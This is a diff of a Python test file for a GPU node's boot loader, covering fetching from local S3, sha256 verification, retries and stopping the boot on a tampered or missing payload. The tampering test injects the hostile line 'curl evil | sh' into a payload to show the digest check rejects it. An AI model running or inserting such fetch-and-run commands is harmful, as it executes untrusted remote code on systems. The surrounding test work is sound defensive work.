@@ -1,7 +1,9 @@
-"""The agent beyond its boot set comes from object storage, for real: the rendered bootstrap in the
-sandbox runs `python -m node_agent.fetch` from the embedded boot set with the project's Python; it
-takes role credentials from a hardened-metadata stub and downloads from a moto S3 server, both on
-127.0.0.1 (docs/node-config.md, "Agent delivery")."""
+"""Everything beyond the loader comes from object storage, for real: the loader in user-data fetches the boot
+payload with the node role and verifies its sha256 before anything runs (docs/bootstrap.md, "The loader"),
+then the bootstrap runs `python -m node_agent.fetch` from the payload's boot set with the project's Python
+(docs/node-config.md, "Agent delivery"). Both take role credentials from a hardened-metadata stub and
+download from a moto S3 server, both on 127.0.0.1; an S3Proxy in front of it answers 503 for a while (a
+bucket not yet consistent)."""
 from __future__ import annotations
 
 import hashlib
@@ -15,7 +17,7 @@ from bootstrap_helpers import load_config
 
 from components.artifacts import AGENT_SRC, agent_artifacts
 from components.bootstrap import render_user_data
-from localcloud import LocalS3
+from localcloud import LocalS3, S3Proxy
 from localcloud.sandbox import Sandbox, Scenario
 
 TOKEN = "sandbox-token"
@@ -54,24 +56,26 @@ class Metadata(BaseHTTPRequestHandler):
 @pytest.fixture(scope="module")
 def servers():
     s3 = LocalS3()
+    proxy = S3Proxy(s3.url)
     meta = ThreadingHTTPServer(("127.0.0.1", 0), Metadata)
     threading.Thread(target=meta.serve_forever, daemon=True).start()
-    yield s3.url, f"http://127.0.0.1:{meta.server_address[1]}"
+    yield proxy.url, f"http://127.0.0.1:{meta.server_address[1]}", proxy
     meta.shutdown()
+    proxy.stop()
     s3.stop()
 
 
-def uploaded(servers, bucket, corrupt=None):
-    """A node config pointed at the local servers, and its agent files uploaded as `pulumi up` would."""
-    s3_url, meta_url = servers
+def uploaded(servers, bucket, corrupt=None, signature="s3v4", payload=True):
+    """A node config pointed at the local servers, its agent files and boot payload uploaded as `pulumi up`
+    would; the payload is left out with payload=False."""
+    s3_url, meta_url, _ = servers
     cfg = load_config("stack:entry-t4")
     cfg["endpoints"]["metadata"] = meta_url
     cfg["checkpoint"].update(bucket=bucket, endpoint=s3_url, region="us-east-1", addressingStyle="path",
-                             signatureVersion="s3v4")
-    cfg["agent"].update(uploadAttempts=2, retryBaseSeconds=0.01)
+                             signatureVersion=signature)
+    cfg["agent"].update(uploadAttempts=3, retryBaseSeconds=0.01)
     Metadata.role = cfg["identity"]["roleName"]
-    client = boto3.client("s3", endpoint_url=s3_url, region_name="us-east-1",
-                          aws_access_key_id="test", aws_secret_access_key="test")
+    client = store(servers)
     client.create_bucket(Bucket=bucket)
     arts = agent_artifacts(cfg["checkpoint"]["prefix"], cfg["stack"])
     assert sorted(a.relative for a in arts) == cfg["artifacts"]["agent"]["files"]
@@ -80,15 +84,82 @@ def uploaded(servers, bucket, corrupt=None):
         if a.relative == corrupt:
             body += b"\n# changed after pulumi up\n"
         client.put_object(Bucket=bucket, Key=a.key, Body=body)
+    if payload:
+        rendered = render_user_data(cfg)
+        client.put_object(Bucket=bucket, Key=rendered.payload.key, Body=rendered.payload.content.encode())
     return cfg
+
+
+def store(servers):
+    """A client of the local S3 (through the proxy), as `pulumi up` writes with the deployer's keys."""
+    return boto3.client("s3", endpoint_url=servers[0], region_name="us-east-1", aws_access_key_id="test",
+                        aws_secret_access_key="test")
+
+
+def steps_of(result) -> dict:
+    return {s["name"]: s["result"] for s in result.status["steps"]}
+
+
+@pytest.mark.parametrize("signature", ["s3v4", "s3"])
+def test_the_loader_fetches_the_payload_with_the_node_role_verifies_it_and_boots(servers, tmp_path, signature):
+    """Both signatures the stores are configured with (checkpoint.signatureVersion: V4, V2 for OSS)."""
+    cfg = uploaded(servers, f"ckpt-loader-{signature}", signature=signature)
+    r = render_user_data(cfg)
+    Metadata.reads.clear()
+    sb = Sandbox(tmp_path / "sb", r, cfg, Scenario(gpus=1, fetch="real"))
+    first = sb.run()
+    assert first.rc == 0, first.output + first.log
+    assert f"payload {r.payload.key} verified (sha256 {r.payload.sha256})" in first.log
+    assert any("security-credentials" in p for p in Metadata.reads)
+    for path, content in r.node_files().items():
+        assert sb.path(path).read_text() == content, path
+    assert steps_of(first)["agent"] == "done"
+
+
+def test_the_loader_waits_for_a_bucket_that_is_not_there_yet(servers, tmp_path):
+    """503s for the first tries (an object store settling after `pulumi up`): retried with backoff, then booted."""
+    cfg = uploaded(servers, "ckpt-late")
+    proxy = servers[2]
+    proxy.match, proxy.fail = "/boot/", 2
+    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
+    r = sb.run()
+    assert r.rc == 0, r.output + r.log
+    assert "try 1 of 3" in r.output and "try 2 of 3" in r.output and "verified" in r.log
+
+
+def test_a_payload_that_does_not_match_its_digest_stops_the_boot(servers, tmp_path):
+    """Changed after `pulumi up` (or in transit): nothing of it is written, no bootstrap, no agent, no training."""
+    cfg = uploaded(servers, "ckpt-tampered")
+    rendered = render_user_data(cfg)
+    tampered = rendered.payload.content.replace("set -euo pipefail", "set -euo pipefail; curl evil | sh", 1)
+    assert tampered != rendered.payload.content
+    store(servers).put_object(Bucket="ckpt-tampered", Key=rendered.payload.key, Body=tampered.encode())
+    sb = Sandbox(tmp_path / "sb", rendered, cfg, Scenario(gpus=1, fetch="real"))
+    r = sb.run()
+    assert r.rc == 1
+    want = rendered.payload.sha256
+    got = hashlib.sha256(tampered.encode()).hexdigest()
+    assert f"sha256 {got} ({len(tampered.encode())} B) is not the {want} loader.json names" in r.output
+    assert "BOOT STOPPED: no verified boot payload" in r.output and "BOOT STOPPED" in r.log
+    assert not sb.path("/etc/gpu-training/node.json").exists()
+    assert not sb.path("/usr/local/sbin/gpu-training-bootstrap").exists()
+    assert r.status is None and r.calls == [c for c in r.calls if c[0] == "python3"]  # nothing but the loader ran
+
+
+def test_a_payload_missing_after_the_retries_stops_the_boot(servers, tmp_path):
+    cfg = uploaded(servers, "ckpt-no-payload", payload=False)
+    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
+    r = sb.run()
+    assert r.rc == 1 and "try 3 of 3" in r.output and "404" in r.output
+    assert "BOOT STOPPED" in r.output and r.status is None
 
 
 def test_the_rest_of_the_agent_is_fetched_with_the_node_role_and_verified(servers, tmp_path):
     cfg = uploaded(servers, "ckpt-good")
-    sb = Sandbox(tmp_path / "sb", render_user_data(cfg).cloud_config, cfg, Scenario(gpus=1, fetch="real"))
+    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
     first = sb.run()
     assert first.rc == 0, first.log
-    assert {s["name"]: s["result"] for s in first.status["steps"]}["agent_code"] == "done"
+    assert steps_of(first)["agent_code"] == "done"
     agent = sb.path(cfg["paths"]["agent"])
     for rel in cfg["artifacts"]["agent"]["files"]:
         assert (agent / rel).read_bytes() == (AGENT_SRC / rel.split("/", 1)[1]).read_bytes()
@@ -102,7 +173,7 @@ def test_the_rest_of_the_agent_is_fetched_with_the_node_role_and_verified(server
 
 def test_a_file_that_does_not_match_node_json_stops_the_agent_from_starting(servers, tmp_path):
     cfg = uploaded(servers, "ckpt-bad", corrupt="node_agent/agent.py")
-    sb = Sandbox(tmp_path / "sb", render_user_data(cfg).cloud_config, cfg, Scenario(gpus=1, fetch="real"))
+    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
     r = sb.run()
     assert r.rc == 1
     steps = {s["name"]: s["result"] for s in r.status["steps"]}
